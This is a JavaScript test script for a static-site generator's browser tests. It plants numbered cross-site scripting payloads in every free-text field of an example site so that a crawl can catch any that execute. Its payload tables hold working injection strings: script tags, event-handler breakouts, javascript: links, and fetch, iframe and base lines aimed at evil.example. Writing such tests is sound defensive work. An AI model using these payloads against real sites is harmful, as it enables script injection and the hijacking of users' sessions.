// Writes a copy of the example site with hostile strings in every free-text field.
//
//   node tests/browser/hostile/make-hostile-site.mjs EXAMPLE_DIR OUT_DIR PAYLOADS_JSON
//
// Copies what `portal build --site` reads (site.json, content/, data/, layouts/,
// assets/) from EXAMPLE_DIR to OUT_DIR and appends attack strings -- script
// tags, attribute breakouts, feed CDATA breakouts, Mustache tags, JavaScript
// string breakouts, U+2028/U+2029, iframes, refresh and base elements -- to every
// string a person writes: site.json texts, Markdown front matter and every line
// of Markdown (headings, paragraphs, list items, each table cell, each link text),
// every JSON string and every CSV cell. Each Markdown text (a page, a JSON
// narrative) also gets a block of hostile links, images and raw HTML. Fields
// are found by walking the files, skipping by key name or column, not from a
// list of files, so a field added later is attacked without anyone remembering
// to add it here.
//
// Every payload carries its own number (ID): it is what alert(ID) shows and what
// https://evil.example/ID asks for, and PAYLOADS_JSON maps it to the field and
// the kind of attack, so whatever fires names its source. Numbers start at
// 10000, so they cannot be mistaken for the control page's (crawl.mjs).
//
// What is left alone: identifiers, dates, amounts, status words, marking labels,
// and site.json's addresses. portal checks those and refuses a hostile one (the
// test of licence.url is in run.sh); here the site must build, so that the crawl
// sees every hostile string as portal publishes it.

import fs from 'node:fs';
import path from 'node:path';

const [exampleDir, outDir, payloadsFile] = process.argv.slice(2);
if (!payloadsFile) {
  console.error('usage: make-hostile-site.mjs EXAMPLE_DIR OUT_DIR PAYLOADS_JSON');
  process.exit(2);
}

// --- the payloads ----------------------------------------------------------------
// Attack strings for any text. Each is a function of its ID.
const TEXT_PAYLOADS = {
  'script': (id) => `<script>alert(${id})</script>`,
  'img-onerror': (id) => `"><img src=x onerror=alert(${id})>`,
  'svg-onload': (id) => `'><svg onload=alert(${id})>`,
  'script-close': (id) => `</script><script>alert(${id})</script>`,
  // Closes a CDATA section and the Atom element it would sit in.
  'cdata-close': (id) => `]]></title><script>alert(${id})</script>`,
  // Expanded if portal ever ran text through Mustache a second time; the crawl
  // checks the braces are still there in front of the marker.
  'mustache': (id) => `{{x}} {{{x}}} mustache:${id}`,
  // Line terminators to JavaScript before ES2019, not to JSON: a string that
  // ended at one would run what follows.
  'u2028': (id) => `\u2028');alert(${id});('\u2029`,
  // An unclosed comment, and the "<!--<script" that makes a script element
  // swallow the rest of the page.
  'comment': (id) => `<!--<script>comment-${id}`,
  'template-literal': (id) => `\`\${alert(${id})}\``,
  'js-string-sq': (id) => `');fetch('https://evil.example/${id}');('`,
  'js-string-dq': (id) => `");fetch("https://evil.example/${id}");("`,
  'iframe': (id) => `<iframe src=https://evil.example/${id}>`,
  'meta-refresh': (id) => `<meta http-equiv=refresh content="0;url=https://evil.example/${id}">`,
  'base': (id) => `<base href=https://evil.example/${id}/>`,
  // For a field someone renders as Markdown with something other than cmark.
  'md-link-javascript': (id) => `[link ${id}](javascript:alert(${id}))`,
};

const b64 = (s) => Buffer.from(s).toString('base64');
// portal drops images with data: addresses, so the images that carry hostile
// alt and title texts show one of the theme's own pictures, by its address from
// the site's root (portal rewrites that to the published file).
const imagesDir = path.join(exampleDir, 'assets', 'images');
const IMAGE = `/assets/images/${fs.readdirSync(imagesDir).sort()[0]}`;

// Markdown constructs that make links, images and raw HTML, appended to every
// Markdown text as paragraphs of their own. Each returns lines.
const MARKDOWN_PAYLOADS = {
  'link-javascript': (id) => [`[link ${id}](javascript:alert(${id}))`],
  'link-javascript-entity': (id) => [`[link ${id}](JaVaScRiPt&colon;alert(${id}))`],
  'link-javascript-tab': (id) => [`[link ${id}](java&#9;script:alert(${id}))`],
  'link-javascript-space': (id) => [`[link ${id}](<  javascript:alert(${id})>)`],
  'link-vbscript': (id) => [`[link ${id}](vbscript:msgbox(${id}))`],
  'link-data-html': (id) => [`[link ${id}](data:text/html;base64,${b64(`<script>alert(${id})</script>`)})`],
  'link-title-breakout': (id) => [`[link ${id}](https://www.example.gov.uk/ "\\"><img src=x onerror=alert(${id})>")`],
  'autolink-javascript': (id) => [`<javascript:alert(${id})>`],
  'reference-link-javascript': (id) => [`[link ${id}][ref-${id}]`, '', `[ref-${id}]: javascript:alert(${id})`],
  'image-alt': (id) => [`![alt <script>alert(${id})</script> "><img src=x onerror=alert(${id})>](${IMAGE})`],
  'image-title-breakout': (id) => [`![image ${id}](${IMAGE} "\\"><svg onload=alert(${id})>")`],
  'image-javascript': (id) => [`![image ${id}](javascript:alert(${id}))`],
  'html-block-script': (id) => [`<script>alert(${id})</script>`],
  'html-block-handler': (id) => [`<details open ontoggle="alert(${id})"><summary>details ${id}</summary></details>`],
  'html-block-iframe': (id) => [`<iframe src="https://evil.example/${id}"></iframe>`],
  'html-block-style': (id) => [`<style>@import url(https://evil.example/${id});</style>`],
  'html-block-base': (id) => [`<base href="https://evil.example/${id}/">`],
  'inline-html-img': (id) => [`Text <img src=x onerror=alert(${id})> and more.`],
  'inline-html-link': (id) => [`Text <a href="javascript:alert(${id})">link ${id}</a> and more.`],
  'inline-html-svg': (id) => [`Text <svg><script>alert(${id})</script></svg> and more.`],
};

// --- what is not free text -----------------------------------------------------------
// JSON keys (in site.json and data/) whose strings portal checks or uses as keys;
// a hostile value there is a build error (or a link that no longer resolves),
// not an injection.
const JSON_SKIP_KEYS = new Set([
  '$schema',
  'id', 'plan', 'number', 'quarter', // identifiers: milestones, plans, priorities
  'not_in_this_report', // milestone ids a report does not list
  'financial_year', 'board_meeting', 'from', 'to', // dates
  'available', 'stated_total', 'stated_remaining', // amounts
  'status', 'status_scale', 'chart', // status words, the scale a report names, chart kinds
  'marking', 'publishable', 'withheld', // marking labels
  'base_url', 'url', 'language', // site.json addresses and language tag
  'file', // the Markdown file a narrative stands in (its text is a file of
  // data/, made hostile as every .md file is)
  'compliance', 'prepared', 'reviewed', 'tested', 'email', // site.json's accessibility facts:
  // a choice of three, dates and an address (the statement's free text is made hostile)
  'prefix', // site.json's 360Giving prefix, which must begin 360G-
  'award_date', // a funding row's date
]);
// Objects whose keys are labels a person wrote (a report's statistic: category -> figure).
const JSON_LABEL_KEYED = new Set(['values']);
// Markdown strings in data/ (the schemas' contentMediaType text/markdown): they
// also get the Markdown block.
const JSON_MARKDOWN_KEYS = new Set(['narrative', 'why', 'what', 'approach', 'measure', 'data_sources']);
// A fund is named in funding/<year>.json and again in every CSV row that spends
// from it: the same hostile name must stand in both places, or the rows name a
// fund that does not exist.
const JOINED = { json: (p) => /(^|\.)funds\[\d+\]\.name$/.test(p), csvColumn: 'fund' };
// CSV columns that are amounts or marking labels.
const CSV_SKIP_COLUMNS = new Set(['amount', 'marking', 'award_date']);
// Front matter keys that are dates, layout names, labels or references to other pages.
const FRONT_MATTER_SKIP = new Set(['date', 'layout', 'marking', 'plan', 'papers']);

// --- payload bookkeeping -------------------------------------------------------------
const payloads = {}; // id -> { field, kind }
let nextId = 10000;
function newId(field, kind) {
  const id = nextId++;
  payloads[id] = { field, kind };
  return id;
}
// All text payloads for one field, joined by spaces.
function textPayloads(field, escape = (s) => s) {
  return Object.entries(TEXT_PAYLOADS).map(([kind, make]) => escape(make(newId(field, kind)))).join(' ');
}
const hostile = (value, field) => `${value} ${textPayloads(field)}`;

function markdownBlock(field) {
  const lines = [];
  for (const [kind, make] of Object.entries(MARKDOWN_PAYLOADS)) lines.push('', ...make(newId(field, kind)));
  return lines;
}

// --- Markdown ---------------------------------------------------------------------------
const isFence = (line) => /^\s{0,3}(`{3,}|~{3,})/.exec(line);
const isTableDelimiter = (line) => /^\s*\|?\s*:?-+:?\s*(\|\s*:?-+:?\s*)*\|?\s*$/.test(line) && line.includes('-');
const isRule = (line) => /^\s{0,3}([-=*_])(\s*\1)*\s*$/.test(line);
const isReferenceDefinition = (line) => /^\s{0,3}\[[^\]]+\]:/.test(line);
// ::: lines open and close withheld regions; portal refuses anything odd near them.
const isRegionMarker = (line) => /^\s*:::/.test(line);

// Link texts and image alts: payloads inside the brackets, with brackets escaped
// so that the link stays a link.
function injectLinkTexts(line, field) {
  const escape = (s) => s.replace(/[[\]]/g, '\\$&');
  return line.replace(/(!?\[)([^[\]]+)(\]\()/g, (_, open, text, close) =>
    `${open}${text} ${textPayloads(`${field} link text`, escape)}${close}`);
}

// Body lines of Markdown (no front matter). `where` names the file or field;
// `firstLine` is the body's first line number in the file, for the field names.
function injectMarkdownBody(lines, where, firstLine) {
  let fence = null;
  return lines.map((line, i) => {
    const field = `${where}:${firstLine + i}`;
    const f = isFence(line);
    if (f) {
      if (!fence) fence = f[1];
      else if (f[1][0] === fence[0] && f[1].length >= fence.length && line.trim() === f[1]) fence = null;
      return line;
    }
    if (line.trim() === '' || isRegionMarker(line)) return line;
    if (fence) return hostile(line, `${field} (code)`);
    if (isTableDelimiter(line) || isRule(line) || isReferenceDefinition(line)) return line;
    if (/^\s*\|/.test(line)) {
      // A table row: each cell, not just the last one. (The "cells" before a
      // leading and after a trailing bar are empty, and stay so.)
      return line.split(/(?<!\\)\|/)
        .map((cell, c) => (cell.trim() === ''
          ? cell
          : ` ${hostile(injectLinkTexts(cell.trim(), `${field} cell ${c}`), `${field} cell ${c}`)} `))
        .join('|');
    }
    return hostile(injectLinkTexts(line, field), field);
  });
}

function injectMarkdownFile(text, rel) {
  const lines = text.split('\n');
  let body = 0;
  if (lines[0] === '---') {
    const end = lines.indexOf('---', 1);
    for (let i = 1; i < end; i++) {
      const m = /^([A-Za-z_][\w-]*):\s*(\S.*)$/.exec(lines[i]);
      if (!m || FRONT_MATTER_SKIP.has(m[1])) continue;
      let value = m[2].trim();
      if (value.startsWith('"')) value = JSON.parse(value);
      else if (value.startsWith("'")) value = value.slice(1, -1).replace(/''/g, "'");
      // A YAML double-quoted scalar takes JSON's escapes; U+2028/U+2029 as
      // escapes, since YAML 1.1 readers take them for line breaks.
      const quoted = JSON.stringify(hostile(value, `${rel} front matter ${m[1]}`))
        .replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');
      lines[i] = `${m[1]}: ${quoted}`;
    }
    body = end + 1;
  }
  const out = [...lines.slice(0, body), ...injectMarkdownBody(lines.slice(body), rel, body + 1)];
  while (out.length && out[out.length - 1] === '') out.pop();
  return [...out, ...markdownBlock(`${rel} (appended Markdown)`), ''].join('\n');
}

// --- JSON -------------------------------------------------------------------------------
const jsonPath = (p, k) => (typeof k === 'number' ? `${p}[${k}]` : p ? `${p}.${k}` : k);
const joinedNames = new Map(); // original fund name -> hostile fund name

function injectJsonString(value, key, p, rel) {
  if (value === '') return value;
  const field = `${rel} ${p}`;
  if (JOINED.json(p)) return joinedName(value, field);
  if (JSON_MARKDOWN_KEYS.has(key)) {
    const lines = injectMarkdownBody(value.split('\n'), field, 1);
    return [...lines, ...markdownBlock(`${field} (appended Markdown)`)].join('\n');
  }
  return hostile(value, field);
}

function joinedName(value, field) {
  if (!joinedNames.has(value))
    joinedNames.set(value, hostile(value, `fund name "${value}" (${field}, and the ${JOINED.csvColumn} column of the CSV rows that spend from it)`));
  return joinedNames.get(value);
}

// `key` is the key the value stands under; for a withheld-value wrapper
// {"value": ..., "marking": ...} that is the wrapper's key, not "value". A
// skipped key skips its strings, not an object under it (site.json's
// marking.notice is text).
function injectJson(node, key, p, rel) {
  const isObject = node && typeof node === 'object' && !Array.isArray(node);
  if (JSON_SKIP_KEYS.has(key) && !isObject) return node;
  if (typeof node === 'string') return injectJsonString(node, key, p, rel);
  if (Array.isArray(node)) return node.map((v, i) => injectJson(v, key, jsonPath(p, i), rel));
  if (isObject) {
    const isWrapper = 'value' in node && 'marking' in node;
    const out = {};
    for (const [k, v] of Object.entries(node)) {
      const outKey = JSON_LABEL_KEYED.has(key) ? hostile(k, `${rel} ${p} key "${k}"`) : k;
      out[outKey] = JSON_LABEL_KEYED.has(key) ? v : injectJson(v, isWrapper && k === 'value' ? key : k, jsonPath(p, k), rel);
    }
    return out;
  }
  return node;
}

// --- CSV ----------------------------------------------------------------------------------
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell); rows.push(row); row = []; cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}
const csvCell = (s) => (/[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

function injectCsv(text, rel) {
  const [header, ...rows] = parseCsv(text);
  const out = rows.map((row, r) => row.map((cell, c) => {
    const column = header[c];
    const field = `${rel} row ${r + 2} column ${column}`;
    if (cell === '' || CSV_SKIP_COLUMNS.has(column)) return cell;
    if (column === JOINED.csvColumn) return joinedName(cell, field);
    return hostile(cell, field);
  }));
  return [header, ...out].map((row) => row.map(csvCell).join(',')).join('\n') + '\n';
}

// --- the copy ---------------------------------------------------------------------------
function filesUnder(dir) {
  const out = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name))) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesUnder(p));
    else out.push(p);
  }
  return out;
}

fs.rmSync(outDir, { recursive: true, force: true });
fs.mkdirSync(outDir, { recursive: true });
for (const name of ['site.json', 'content', 'data', 'layouts', 'assets'])
  fs.cpSync(path.join(exampleDir, name), path.join(outDir, name), { recursive: true });

// JSON before CSV, so that a fund's field name is where it is defined.
const rel = (f) => path.relative(outDir, f).split(path.sep).join('/');
const files = [path.join(outDir, 'site.json'), ...filesUnder(path.join(outDir, 'content')), ...filesUnder(path.join(outDir, 'data'))];
const order = (f) => (f.endsWith('.csv') ? 1 : 0);
for (const f of files.sort((a, b) => order(a) - order(b))) {
  const text = fs.readFileSync(f, 'utf8');
  if (f.endsWith('.json')) fs.writeFileSync(f, JSON.stringify(injectJson(JSON.parse(text), '', '', rel(f)), null, 1) + '\n');
  else if (f.endsWith('.md')) fs.writeFileSync(f, injectMarkdownFile(text, rel(f)));
  else if (f.endsWith('.csv')) fs.writeFileSync(f, injectCsv(text, rel(f)));
}

fs.writeFileSync(payloadsFile, JSON.stringify(payloads));
console.log(`hostile site: ${Object.keys(payloads).length} payloads in ${outDir}`);
